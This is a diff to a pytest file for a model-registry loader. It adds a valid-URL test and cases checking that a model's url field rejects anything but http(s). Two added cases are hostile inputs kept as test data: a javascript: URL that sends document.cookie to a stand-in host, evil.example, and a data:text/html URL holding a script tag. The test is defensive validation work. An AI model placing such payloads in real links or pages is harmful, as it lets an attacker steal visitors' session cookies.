@@ -49,7 +49,15 @@ def write(tmp_path, text, prompts="- {id: c1, text: Hi}\n"):
 
 
 def test_valid_registry_loads(tmp_path):
-    reg = load_registry(write(tmp_path, VALID))
+    reg = load_registry(
+        write(
+            tmp_path,
+            VALID.replace(
+                "license: CC0-1.0", "url: HTTPS://x.org/j?a=1&b=2\n        license: CC0-1.0"
+            ),
+        )
+    )
+    assert reg.arena("tts-en").model("piper/joe").url == "HTTPS://x.org/j?a=1&b=2"
     tts = reg.arena("tts-en")
     assert tts.modality == "audio" and tts.categories == ("en",)
     piper = tts.model("piper/joe")
@@ -96,6 +104,13 @@ BROKEN = [
     (("id: m1", "id: a/"), "chat", "a/", "id", "not a valid id"),
     (("id: m1", "id: a/.."), "chat", "a/..", "id", "not a valid id"),
     (("id: p1", "id: p/../q"), "tts-en", None, "prompts.id", "not a valid id"),
+    # A model's url is linked in raw HTML on the board and the reveal: http(s) only.
+    (("license: CC0-1.0", "url: \"javascript:fetch('//evil.example/'+document.cookie)\""),
+     "tts-en", "piper/joe", "url", "not an http(s) URL"),
+    (("license: CC0-1.0", "url: 'data:text/html,<script>x</script>'"), "tts-en", "piper/joe", "url", "not an http(s) URL"),
+    (("license: CC0-1.0", "url: huggingface.co/x"), "tts-en", "piper/joe", "url", "not an http(s) URL"),
+    (("license: CC0-1.0", "url: 'https://'"), "tts-en", "piper/joe", "url", "not an http(s) URL"),
+    (("license: CC0-1.0", "url: 'https://x.org/a b'"), "tts-en", "piper/joe", "url", "not an http(s) URL"),
     (("prompts: prompts.yaml", "prompts: missing.yaml"), "chat", None, "prompts", "does not exist"),
 ]  # fmt: skip
 
